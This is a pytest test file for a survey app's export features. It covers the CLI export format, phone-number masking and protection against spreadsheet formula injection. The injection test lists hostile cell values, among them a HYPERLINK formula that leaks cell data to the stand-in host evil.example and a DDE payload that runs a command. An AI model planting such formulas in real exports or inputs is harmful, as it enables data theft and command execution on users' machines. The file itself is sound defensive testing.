"""`python -m survey_app export` writes the interchange format exactly."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session
from starlette.testclient import TestClient

from survey_app.cli.main import main
from survey_app.services.exports.tables import neutralise
from survey_app.settings import Settings
from tests.conftest import form_token, survey_path
from tests.factories import csrf_of, full_answers, logged_in_lead, make_campaign

REQUIRED = {"id", "location", "channel", "started_at", "submitted_at", "client_id", "ip_hash", "answers"}
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")


def test_export_cli_writes_the_contract(
    client: TestClient, session: Session, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _c, locations = make_campaign(session, code="EXP-1")
    for location, extra in ((locations[0], {"a.q09": "na"}), (locations[1], {"a.comment": "很好"})):
        path = survey_path(location)
        data = {"_form": form_token(client.get(path).text), "_step": "submit", **full_answers(), **extra}
        data["_item_ms"] = '{"q01": 1200}'
        assert client.post(path, data=data).status_code == 303
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("MINGCHA_VAR_DIR", str(settings.var_dir))
    out = tmp_path / "export"
    assert main(["export", "--campaign", "EXP-1", "--out", str(out)]) == 0
    items = json.loads((out / "items.json").read_text(encoding="utf-8"))
    assert items["instrument"] == "property-resident-survey@1" and len(items["items"]) == 21
    lines = [json.loads(line) for line in (out / "responses.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 2
    for line in lines:
        assert REQUIRED <= set(line)
        assert ISO_UTC.match(line["started_at"]) and ISO_UTC.match(line["submitted_at"])
        assert set(line["answers"]) == {entry["id"] for entry in items["items"]}
        assert all(v is None or 1 <= v <= 5 for v in line["answers"].values())
        assert line["channel"] == "online" and line["item_ms"] == {"q01": 1200}
    assert [line["location"] for line in lines] == ["L01", "L02"]
    assert lines[0]["answers"]["q09"] is None and lines[1]["comment"] == "很好"
    assert "contact_phone" not in json.dumps(lines)


def test_export_unknown_campaign_is_a_clear_error(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("MINGCHA_VAR_DIR", str(settings.var_dir))
    assert main(["export", "--campaign", "NOPE", "--out", str(tmp_path)]) == 2
    assert "no campaign with code 'NOPE'" in capsys.readouterr().err


EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def test_1_exports_cannot_run_formulas(client: TestClient, session: Session) -> None:
    campaign, locations = logged_in_lead(client, session)
    path = survey_path(locations[0])
    for text in EVIL:
        data = {
            "_form": form_token(client.get(path).text),
            "_step": "submit",
            **full_answers(),
            "a.comment": text,
        }
        assert client.post(path, data=data).status_code == 303
    token = csrf_of(client)
    body = client.post(f"/c/{campaign.code}/export/responses.csv", data={"_csrf": token}).content.decode(
        "utf-8-sig"
    )
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'=cmd|' /C calc'!A0" in cells
    book = load_workbook(
        io.BytesIO(client.post(f"/c/{campaign.code}/export/responses.xlsx", data={"_csrf": token}).content)
    )
    values = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in values)
    assert neutralise("=一楼") == "'=一楼" and neutralise(-3) == -3 and neutralise("正常") == "正常"


def test_phone_numbers_typed_into_text_are_masked_in_every_export(
    client: TestClient, session: Session, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from survey_app.services.exports.masking import MASK

    campaign, locations = logged_in_lead(client, session, code="MASK-1")
    path = survey_path(locations[0])
    for comment in ("请回电 139 1234 5678", "电话：0592-5551234", "手机１３９１２３４５６７８"):
        data = {"_form": form_token(client.get(path).text), "_step": "submit", **full_answers()}
        assert client.post(path, data={**data, "a.comment": comment}).status_code == 303
    token = csrf_of(client)
    raw = ("1234 5678", "5551234", "１２３４５６７８")

    def clean(text: str) -> None:
        assert not any(digits in text for digits in raw), text[:400]
        assert text.count(MASK) >= 3

    csv_body = client.post(f"/c/{campaign.code}/export/responses.csv", data={"_csrf": token})
    clean(csv_body.content.decode("utf-8-sig"))
    xlsx = client.post(f"/c/{campaign.code}/export/responses.xlsx", data={"_csrf": token}).content
    cells = [str(c.value) for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    clean("\n".join(cells))
    clean(client.post(f"/c/{campaign.code}/export/responses.jsonl", data={"_csrf": token}).text)
    job = client.post(
        f"/c/{campaign.code}/jobs", data={"_csrf": token, "kind": "export", "export": "responses.csv"}
    )
    assert job.status_code == 303
    made = client.get(job.headers["location"] + "/file")
    assert made.status_code == 200
    clean(made.content.decode("utf-8-sig"))
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("MINGCHA_VAR_DIR", str(settings.var_dir))
    assert main(["export", "--campaign", campaign.code, "--out", str(tmp_path)]) == 0
    clean((tmp_path / "responses.jsonl").read_text(encoding="utf-8"))
